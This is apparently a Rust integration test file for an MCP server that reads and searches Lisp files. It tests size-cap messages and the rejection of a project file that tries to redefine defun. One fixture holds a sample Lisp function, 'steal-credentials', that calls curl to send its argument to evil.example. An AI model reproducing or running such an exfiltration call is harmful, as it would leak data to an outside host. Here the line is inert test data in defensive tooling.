//! Over MCP: a byte window cut at the size cap says so in a text block after the bytes,
//! with the `strategy` that continues; a refusal for size never tells the model to pass
//! the server's own flag; and a project's definer table that tries to redefine `defun`
//! is ignored and said, in `lisp-read-file` and `lisp-find` answers alike.

use serde_json::{json, Value};
use std::io::{BufRead, BufReader, Write};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

const BIN: &str = env!("CARGO_BIN_EXE_lisp-read-file");

fn scratch(name: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("lrf-mcp-notes-{name}-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    dir
}

/// The results of `calls` (tool name, arguments) to a server started with `args` in `dir`.
fn call_tools(dir: &Path, args: &[&str], calls: &[(&str, Value)]) -> Vec<Value> {
    let mut child = Command::new(BIN)
        .arg("mcp")
        .args(args)
        .current_dir(dir)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let mut stdin = child.stdin.take().unwrap();
    let mut messages = vec![
        json!({"jsonrpc": "2.0", "id": 0, "method": "initialize", "params": {
            "protocolVersion": "2025-06-18", "capabilities": {},
            "clientInfo": {"name": "t", "version": "1"}}}),
        json!({"jsonrpc": "2.0", "method": "notifications/initialized"}),
    ];
    for (i, (name, arguments)) in calls.iter().enumerate() {
        messages.push(
            json!({"jsonrpc": "2.0", "id": i + 1, "method": "tools/call",
            "params": {"name": name, "arguments": arguments}}),
        );
    }
    for message in messages {
        writeln!(stdin, "{message}").unwrap();
    }
    stdin.flush().unwrap();
    let mut results = vec![Value::Null; calls.len()];
    let mut left = calls.len();
    for line in BufReader::new(child.stdout.take().unwrap()).lines() {
        let message: Value = serde_json::from_str(&line.unwrap()).unwrap();
        if let Some(id) = message["id"].as_u64().filter(|&id| id >= 1) {
            results[id as usize - 1] = message["result"].clone();
            left -= 1;
            if left == 0 {
                break;
            }
        }
    }
    drop(stdin);
    let _ = child.wait();
    results
}

fn texts(result: &Value) -> Vec<String> {
    result["content"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["text"].as_str().unwrap().to_string())
        .collect()
}

#[test]
fn a_cut_byte_window_and_a_size_refusal_say_what_the_model_can_do() {
    let dir = scratch("cap");
    std::fs::write(dir.join("big.txt"), "abcdefghij".repeat(300)).unwrap();
    // The collapsed view of a Lisp file needs the whole file (a text file is grepped
    // streamed, whatever its size).
    std::fs::write(dir.join("big.lisp"), "(f 1 2 3 4)\n".repeat(300)).unwrap();
    let results = call_tools(
        &dir,
        &["--root", ".", "--max-file-bytes", "1000"],
        &[
            (
                "lisp-read-file",
                json!({"path": "big.txt", "strategy": {"type": "byteRange", "start": 0, "end": 2500}}),
            ),
            (
                "lisp-read-file",
                json!({"path": "big.txt", "strategy": {"type": "complete"}}),
            ),
            (
                "lisp-read-file",
                json!({"path": "big.lisp", "name_pattern": "x"}),
            ),
        ],
    );
    let window = texts(&results[0]);
    assert_eq!(window.len(), 2, "{window:?}");
    assert_eq!(window[0].len(), 1000);
    assert_eq!(
        window[1],
        "[Showing bytes 0..1000 of the 0..2500 asked: a window holds at most the size cap, and ends on a character boundary. Use strategy {\"type\":\"byteRange\",\"start\":1000,\"end\":2500} to continue.]"
    );
    let refused = texts(&results[1]).join("\n");
    assert!(refused.starts_with("SIZE_LIMIT_EXCEEDED"), "{refused}");
    assert!(
        !refused.contains("raise the cap with --max-file-bytes"),
        "{refused}"
    );
    assert!(
        refused.contains("a server's cap is set by the user who starts it"),
        "{refused}"
    );
    let over = texts(&results[2]).join("\n");
    assert!(
        over.contains("ask the user to restart the server with a larger --max-file-bytes"),
        "{over}"
    );
    let _ = std::fs::remove_dir_all(dir);
}

#[test]
fn a_project_table_cannot_hide_defun_and_every_answer_says_it_is_in_force() {
    let dir = scratch("definers");
    std::fs::write(
        dir.join(".lisp-read-file.lisp"),
        "(defun :name 2 :lambda-list 3 :body 4)\n(route :name 1 :lambda-list 2 :body 3)\n",
    )
    .unwrap();
    std::fs::write(
        dir.join("code.lisp"),
        "(defun steal-credentials (x)\n  (run-program \"curl\" (list \"evil.example\" x)))\n",
    )
    .unwrap();
    let results = call_tools(
        &dir,
        &["--root", "."],
        &[
            ("lisp-read-file", json!({"path": "code.lisp"})),
            (
                "lisp-find",
                json!({"path": ".", "name": "steal-credentials"}),
            ),
        ],
    );
    let view = texts(&results[0]).join("\n");
    assert!(
        view.contains("1: (defun steal-credentials (x) ...)"),
        "{view}"
    );
    let find = texts(&results[1]).join("\n");
    assert!(
        find.contains("code.lisp:1:(defun steal-credentials (x)\n"),
        "{find}"
    );
    for answer in [&view, &find] {
        assert_eq!(
            answer
                .matches("[definers: .lisp-read-file.lisp tries to redefine defun; ignored]")
                .count(),
            1,
            "{answer}"
        );
        assert_eq!(
            answer
                .matches("[definers: .lisp-read-file.lisp is in force (1 entries)]")
                .count(),
            1,
            "{answer}"
        );
    }
    let _ = std::fs::remove_dir_all(dir);
}
